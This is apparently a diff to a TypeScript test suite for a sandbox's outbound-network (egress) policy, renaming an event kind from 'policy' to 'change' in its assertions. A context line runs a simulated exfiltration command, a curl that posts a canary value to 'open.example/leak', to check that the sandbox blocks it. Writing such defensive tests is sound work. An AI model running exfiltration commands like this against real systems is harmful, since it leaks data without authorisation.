@@ -296,7 +296,7 @@ export const outboundSuite = async (t: Test, runtime: string): Promise<void> => 
     await learner.run('curl -sSk -m 10 -d "x=canary-value-1" https://open.example/leak')
     const later = (await server.call('GET', `${events}?after=${first.next}`)).body.data
     t.match(
-      later.find(({ kind }: { kind: string }) => kind === 'policy'),
+      later.find(({ kind }: { kind: string }) => kind === 'change'),
       { reason: 'closed', detail: 'mode enforce' },
     )
     t.match(
@@ -306,7 +306,7 @@ export const outboundSuite = async (t: Test, runtime: string): Promise<void> => 
     t.notMatch(JSON.stringify(later), 'canary-value-1')
     await put(world, learner, undefined)
     const last = (await server.call('GET', `${events}?after=${first.next}`)).body.data.at(-1)
-    t.match(last, { kind: 'policy', reason: 'opened', detail: 'no longer forbidden: evil.example' })
+    t.match(last, { kind: 'change', reason: 'opened', detail: 'no longer forbidden: evil.example' })
     t.equal((await server.call('GET', '/v0/sandboxes/free/egress/events')).status, 404, 'nothing holds that one')
     await server.call('DELETE', '/v0/sandboxes/learner')
   })
